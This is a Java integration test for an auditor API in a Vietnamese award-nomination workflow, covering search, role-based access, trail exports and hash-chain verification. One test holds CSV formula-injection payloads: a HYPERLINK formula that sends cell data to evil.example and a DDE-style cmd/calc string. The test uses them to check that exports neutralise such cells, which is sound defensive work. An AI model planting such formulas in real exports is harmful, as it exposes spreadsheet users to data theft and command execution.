package vn.khenthuong.audit;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.TaskService;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.ActiveProfiles;
import vn.khenthuong.catalog.FoldedName;
import vn.khenthuong.nomination.NewDossier;
import vn.khenthuong.nomination.NominationWorkflow;
import vn.khenthuong.nomination.NomineeKind;

/** The auditor's API over real HTTP: search cases, who may call it, exports and verification. */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@ActiveProfiles("test")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AuditApiTest {

    @LocalServerPort int port;
    @Autowired NominationWorkflow workflow;
    @Autowired TaskService taskService;
    @Autowired IdentityService identityService;

    final HttpClient http = HttpClient.newHttpClient();
    final ObjectMapper json = new ObjectMapper();
    final List<String> codes = new ArrayList<>();

    @BeforeAll
    void nominations() {
        codes.add(workflow.start(dossier("Lò Thị Dung", "012345000001", 2019), "xa.pusamcap"));
        codes.add(workflow.start(dossier("Đỗ Văn Đức", "012345000002", 2019), "xa.pusamcap"));
        codes.add(workflow.start(dossier("Lò Văn Dũng", "012345000003", 2020), "xa.phucthan"));
        codes.add(workflow.start(dossier("Hoàng Thị Mai", "012345000004", 2019), "xa.phucthan"));
    }

    static NewDossier dossier(String name, String id, int year) {
        return new NewDossier("BK_TINH", null, "PERIODIC", NomineeKind.INDIVIDUAL, name, id, 1980, "FEMALE", "Nông dân", "Bản Nà Khum",
                null, null, null, "Nuôi cá lồng trên hồ thủy điện, giúp 12 hộ thoát nghèo.", year);
    }

    @Test
    void nameSearchIgnoresAccentsAndCaseAndFindsPartialNames() throws Exception {
        assertThat(names(search("thanhtra", "nominee=lo+thi+dung"))).containsExactly("Lò Thị Dung");
        assertThat(names(search("thanhtra", "nominee=" + enc("LÒ THỊ DUNG")))).containsExactly("Lò Thị Dung");
        assertThat(names(search("thanhtra", "nominee=duc"))).containsExactly("Đỗ Văn Đức");
        assertThat(names(search("thanhtra", "nominee=" + enc("đức")))).containsExactly("Đỗ Văn Đức");
        assertThat(names(search("thanhtra", "nominee=dung&sort=nominee&direction=asc"))).containsExactly("Lò Thị Dung", "Lò Văn Dũng");
        assertThat(names(search("thanhtra", "idNumber=012345000003"))).containsExactly("Lò Văn Dũng");
        assertThat(names(search("thanhtra", "code=" + codes.get(3).toLowerCase()))).containsExactly("Hoàng Thị Mai");
    }

    @Test
    void aDistrictIncludesItsCommunesAndYearAndKindNarrow() throws Exception {
        assertThat(names(search("thanhtra", "unit=sinho&sort=nominee&direction=asc&awardKind=BK_TINH")))
                .contains("Lò Thị Dung", "Đỗ Văn Đức").doesNotContain("Lò Văn Dũng", "Hoàng Thị Mai");
        assertThat(names(search("thanhtra", "unit=thanuyen&year=2019"))).contains("Hoàng Thị Mai").doesNotContain("Lò Văn Dũng", "Lò Thị Dung");
        assertThat(names(search("thanhtra", "unit=laichau&nominee=dung&sort=year&direction=desc"))).containsExactly("Lò Văn Dũng", "Lò Thị Dung");
    }

    @Test
    void resultsArePagedAndSorted() throws Exception {
        JsonNode first = search("thanhtra", "nominee=o&sort=nominee&direction=asc&size=2&page=0");
        JsonNode second = search("thanhtra", "nominee=o&sort=nominee&direction=asc&size=2&page=1");
        assertThat(first.get("total").asLong()).isGreaterThanOrEqualTo(4);
        assertThat(names(first)).hasSize(2);
        List<String> both = new ArrayList<>(names(first));
        both.addAll(names(second));
        assertThat(both).isSortedAccordingTo((a, b) -> FoldedName.of(a).compareTo(FoldedName.of(b))).doesNotHaveDuplicates();
        HttpResponse<String> bad = get("thanhtra", "/api/audit/nominations?sort=password");
        assertThat(bad.statusCode()).isEqualTo(400);
        assertThat(bad.body()).contains("Không sắp xếp được").contains("Unknown sort");
        assertThat(get("thanhtra", "/api/audit/nominations?size=5000").statusCode()).isEqualTo(400);
        assertThat(get("thanhtra", "/api/audit/nominations?unit=atlantis").body()).contains("Không có đơn vị");
    }

    @Test
    void onlyAuditorsAndAdministratorsReachTheAuditApi() throws Exception {
        for (String path : List.of("/api/audit/nominations", "/api/audit/verify", "/api/audit/nominations/" + codes.get(0) + "/trail",
                "/api/audit/nominations/" + codes.get(0) + "/trail.pdf", "/api/audit/nominations/export?format=csv", "/tra-cuu.html")) {
            HttpResponse<String> official = get("xa.pusamcap", path);
            assertThat(official.statusCode()).as(path).isEqualTo(403);
            assertThat(get("huyen.sinho", path).statusCode()).as(path).isEqualTo(403);
            assertThat(get("tinh.thamdinh", path).statusCode()).as(path).isEqualTo(403);
            assertThat(http.send(HttpRequest.newBuilder(URI.create(url(path))).build(), HttpResponse.BodyHandlers.ofString()).statusCode())
                    .as(path).isIn(401, 302);
        }
        assertThat(get("xa.pusamcap", "/api/audit/verify").body()).contains("\"status\":403");
        assertThat(get("admin", "/api/audit/verify").statusCode()).isEqualTo(200);
        assertThat(get("thanhtra", "/tra-cuu.html").body()).contains("Tra cứu, thanh tra hồ sơ khen thưởng");
        assertThat(get("thanhtra", "/camunda/app/welcome/scripts/config.js").body()).contains("href: '/tra-cuu.html'");
        // The auditor sees every unit, not only one.
        JsonNode all = search("thanhtra", "size=200");
        assertThat(names(all)).contains("Lò Thị Dung", "Hoàng Thị Mai");
    }

    @Test
    void trailExportsAndVerification() throws Exception {
        String code = codes.get(0);
        JsonNode trail = json.readTree(get("thanhtra", "/api/audit/nominations/" + code + "/trail").body());
        assertThat(trail.at("/summary/nomineeName").asText()).isEqualTo("Lò Thị Dung");
        assertThat(trail.get("entries").toString()).contains("NOMINATION_FILED").contains("Lò Văn Thắng");
        assertThat(get("thanhtra", "/api/audit/nominations/LC-1999-999999/trail").statusCode()).isEqualTo(404);

        HttpResponse<byte[]> pdf = getBytes("/api/audit/nominations/" + code + "/trail.pdf");
        assertThat(pdf.statusCode()).isEqualTo(200);
        assertThat(pdf.headers().firstValue("Content-Type")).hasValue("application/pdf");
        try (PDDocument doc = Loader.loadPDF(pdf.body())) {
            String text = new PDFTextStripper().getText(doc);
            assertThat(text).contains("NHẬT KÝ HỒ SƠ ĐỀ NGHỊ KHEN THƯỞNG").contains("Lò Thị Dung").contains("Bằng khen của Chủ tịch UBND tỉnh")
                    .contains("Lập hồ sơ").contains("Chuỗi nhật ký toàn vẹn");
            // Names and titles, dates as dd/MM/yyyy HH:mm; no login, no code, no milliseconds (issue 17).
            assertThat(text.replaceAll("\\s+", " ")).contains("Lò Văn Thắng (Cán bộ thi đua, khen thưởng – Xã Pu Sam Cáp)")
                    .containsPattern("\\d{2}/\\d{2}/\\d{4} \\d{2}:\\d{2}").doesNotContainPattern("\\d{2}:\\d{2}:\\d{2}\\.\\d{3}")
                    .doesNotContain("xa.pusamcap").doesNotContain("ACHIEVEMENT_REPORT").doesNotContain("PROPOSAL_LETTER")
                    .contains("Xuất lúc").contains("bởi Ngô Văn Quang (Thanh tra, kiểm tra (chỉ đọc))");
            assertThat(doc.getPage(0).getResources().getFontNames()).isNotEmpty();
            assertThat(doc.getPage(0).getResources().getFont(doc.getPage(0).getResources().getFontNames().iterator().next()).isEmbedded()).isTrue();
        }

        HttpResponse<byte[]> csv = getBytes("/api/audit/nominations/" + code + "/trail.csv");
        assertThat(csv.body()[0] & 0xFF).isEqualTo(0xEF);
        assertThat(new String(csv.body(), StandardCharsets.UTF_8)).startsWith("\uFEFFThời gian,").contains("Lập hồ sơ");

        HttpResponse<byte[]> searchCsv = getBytes("/api/audit/nominations/export?format=csv&nominee=dung&sort=nominee&direction=asc");
        String text = new String(searchCsv.body(), StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFFMã hồ sơ,Đối tượng").contains("Lò Thị Dung").contains("Lò Văn Dũng").doesNotContain("Hoàng Thị Mai");

        HttpResponse<byte[]> xlsx = getBytes("/api/audit/nominations/export?format=xlsx&nominee=dung&sort=nominee&direction=asc");
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx.body()))) {
            assertThat(book.getSheetAt(0).getRow(0).getCell(1).getStringCellValue()).isEqualTo("Đối tượng");
            assertThat(book.getSheetAt(0).getRow(1).getCell(1).getStringCellValue()).isEqualTo("Lò Thị Dung");
            assertThat(book.getSheetAt(0).getRow(2).getCell(1).getStringCellValue()).isEqualTo("Lò Văn Dũng");
            assertThat(book.getSheetAt(0).getLastRowNum()).isEqualTo(2);
        }
        assertThat(get("thanhtra", "/api/audit/nominations/export?format=doc").statusCode()).isEqualTo(400);

        JsonNode verify = json.readTree(get("thanhtra", "/api/audit/verify").body());
        assertThat(verify.get("valid").asBoolean()).isTrue();
        assertThat(verify.get("checkedRows").asLong()).isGreaterThanOrEqualTo(4);
        // One chain per nomination: at least the four filed here.
        assertThat(verify.get("checkedChains").asLong()).isGreaterThanOrEqualTo(4);
        assertThat(verify.hasNonNull("brokenAtPosition")).isFalse();
        assertThat(verify.get("headHash").asText()).matches("[0-9a-f]{64}");
        JsonNode trailJson = json.readTree(get("thanhtra", "/api/audit/nominations/" + codes.get(0) + "/trail").body());
        assertThat(trailJson.get("chainHeadHash").asText()).matches("[0-9a-f]{64}").isNotEqualTo(AuditLog.GENESIS);
    }

    @Test
    void csvExportsNeutraliseCellsAFormulaCouldHideIn() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Xem hồ sơ\")";
        String code = workflow.start(dossier(formula, "012345000099", 2018), "xa.pusamcap");

        String searchCsv = new String(getBytes("/api/audit/nominations/export?format=csv&idNumber=012345000099").body(), StandardCharsets.UTF_8);
        List<CSVRecord> records = CSVFormat.EXCEL.parse(new StringReader(searchCsv.substring(1))).getRecords();
        assertThat(records).hasSize(2);
        assertThat(records.get(1).get(0)).isEqualTo(code);
        assertThat(records.get(1).get(1)).isEqualTo("'" + formula);
        // The year is a number column and stays a number.
        assertThat(records.get(1).get(7)).isEqualTo("2018");

        String trailCsv = new String(getBytes("/api/audit/nominations/" + code + "/trail.csv").body(), StandardCharsets.UTF_8);
        for (CSVRecord r : CSVFormat.EXCEL.parse(new StringReader(trailCsv.substring(1))).getRecords()) {
            for (String cell : r) {
                assertThat(cell).as("trail CSV cell").doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@");
            }
        }

        // Ordinary values are unchanged; a leading tab or CR (which Excel skips) does not let a formula through.
        assertThat(TrailExports.text("Lò Thị Dung")).isEqualTo("Lò Thị Dung");
        assertThat(TrailExports.text("Ngày 01/02/2025 - họp")).isEqualTo("Ngày 01/02/2025 - họp");
        assertThat(TrailExports.text("")).isEmpty();
        assertThat(TrailExports.text(null)).isNull();
        for (String bad : List.of("=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1")) {
            assertThat(TrailExports.text(bad)).isEqualTo("'" + bad);
        }
    }

    private List<String> names(JsonNode page) {
        List<String> names = new ArrayList<>();
        page.get("items").forEach(i -> names.add(i.get("nomineeName").asText()));
        return names;
    }

    private JsonNode search(String user, String query) throws Exception {
        HttpResponse<String> r = get(user, "/api/audit/nominations?" + query);
        assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
        return json.readTree(r.body());
    }

    private HttpResponse<String> get(String user, String path) throws Exception {
        return http.send(HttpRequest.newBuilder(URI.create(url(path))).header("Authorization", basic(user)).build(), HttpResponse.BodyHandlers.ofString());
    }

    private HttpResponse<byte[]> getBytes(String path) throws Exception {
        HttpResponse<byte[]> r = http.send(HttpRequest.newBuilder(URI.create(url(path))).header("Authorization", basic("thanhtra")).build(),
                HttpResponse.BodyHandlers.ofByteArray());
        assertThat(r.statusCode()).isEqualTo(200);
        return r;
    }

    private String url(String path) {
        return "http://localhost:" + port + path;
    }

    private static String basic(String user) {
        return "Basic " + Base64.getEncoder().encodeToString((user + ":demo").getBytes(StandardCharsets.UTF_8));
    }

    private static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }
}
